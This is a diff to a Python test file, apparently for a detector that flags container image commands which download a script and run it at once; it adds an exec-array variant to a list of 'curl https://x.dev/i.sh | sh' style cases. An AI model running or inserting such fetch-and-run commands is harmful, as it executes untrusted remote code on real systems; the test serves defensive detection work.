@@ -26,6 +26,7 @@ def image(*lines: str) -> dict[str, str]:
         "bash -o pipefail -c 'curl https://x.dev/i.sh | sh'",
         "set -e; if true; then curl https://x.dev/i.sh | sh; fi",
         "<<EOF\ncurl https://x.dev/i.sh | sh\nEOF",
+        '["/bin/bash", "-c", "curl https://x.dev/i.sh | bash"]',
     ],
 )
 def test_downloads_that_run_at_once(judged: Judge, command: str) -> None:
